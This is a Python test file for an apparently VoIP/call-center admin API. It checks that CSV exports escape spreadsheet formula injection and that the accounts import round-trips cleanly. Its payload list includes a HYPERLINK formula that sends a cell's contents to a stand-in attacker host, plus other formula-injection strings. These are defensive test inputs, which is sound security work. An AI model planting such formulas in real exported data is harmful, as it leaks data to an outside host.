"""CSV exports (call reports, accounts) never hand a spreadsheet a formula: a cell beginning
with =, +, -, @, a tab or a carriage return is written as text; the accounts import reads its
own export back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid

import pytest

from .conftest import Api

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+48221234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_formulas(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


@pytest.mark.parametrize("evil", EVIL)
def test_report_csv_cells_are_not_formulas(api: Api, evil: str) -> None:
    agent = api.agent("anna", display_name=evil.replace("\r", "").replace("\t", "") or "x")
    api.account(agent["id"])
    token = api.sign_in("anna")["token"]
    log = {
        "id": str(uuid.uuid4()),
        "direction": "inbound",
        "remote": evil,
        "started_at": dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.UTC).isoformat(),
        "duration_s": 1.0,
        "end_reason": evil,
    }
    posted = api.ok(
        api.c.post("/api/v1/call-logs", json={"logs": [log]}, headers=api.bearer(token))
    )
    assert posted["accepted"] == [log["id"]], posted
    resp = api.c.get("/api/v1/admin/reports/calls", params={"format": "csv"}, headers=api.h)
    assert resp.status_code == 200
    rows = cells(resp.text)
    no_formulas(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("remote")] == "'" + evil
    assert row[header.index("end_reason")] == "'" + evil


def test_accounts_csv_cells_are_not_formulas_and_import_back(api: Api) -> None:
    agent = api.agent("@cmd")
    api.account(
        agent["id"],
        sip_username="=u1",
        sip_password="-secret",
        caller_id="=HYPERLINK(1)",
        phone_number="+48 22 123 45 67",
    )
    api.account(sip_username="@pool", sip_password="'=quoted")
    exported = api.c.get(
        "/api/v1/admin/accounts/export.csv",
        params={"include_passwords": "true"},
        headers=api.h,
    )
    assert exported.status_code == 200
    rows = cells(exported.text)
    no_formulas(rows)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["agent"] == "'@cmd"
    assert first["phone_number"] == "'+48 22 123 45 67"
    assert first["sip_password"] == "'-secret"
    # The import reads the export back: the same accounts, not new ones with apostrophes.
    back = api.c.post(
        "/api/v1/admin/accounts/import",
        content=exported.text,
        headers={**api.h, "content-type": "text/csv"},
    )
    assert api.ok(back) == {"created": 0, "updated": 2}
    again = api.c.get(
        "/api/v1/admin/accounts/export.csv",
        params={"include_passwords": "true"},
        headers=api.h,
    )
    assert again.text == exported.text
    listed = api.ok(api.c.get("/api/v1/admin/accounts", headers=api.h))
    assert {a["sip_username"] for a in listed} == {"=u1", "@pool"}
    assert {a["phone_number"] for a in listed} == {"+48 22 123 45 67", ""}


def test_report_csv_has_the_calls_quality(api: Api) -> None:
    agent = api.agent("anna")
    api.account(agent["id"])
    token = api.sign_in("anna")["token"]
    quality = {"mos": 4.31, "rx_loss_pct": 1.5, "rtt_ms": None, "level": "good"}
    logs = [
        {
            "id": str(uuid.uuid4()),
            "direction": "outbound",
            "remote": "2002",
            "started_at": dt.datetime(2026, 3, 2, 9, minute, tzinfo=dt.UTC).isoformat(),
            "duration_s": 1.0,
            **extra,
        }
        for minute, extra in ((30, {"quality": quality}), (31, {}))
    ]
    posted = api.ok(api.c.post("/api/v1/call-logs", json={"logs": logs}, headers=api.bearer(token)))
    assert len(posted["accepted"]) == 2, posted
    resp = api.c.get("/api/v1/admin/reports/calls", params={"format": "csv"}, headers=api.h)
    rows = cells(resp.text)
    header, with_quality, without = rows[0], rows[1], rows[2]
    assert with_quality[header.index("mos")] == "4.31"
    assert json.loads(with_quality[header.index("quality")]) == quality
    assert without[header.index("mos")] == without[header.index("quality")] == ""
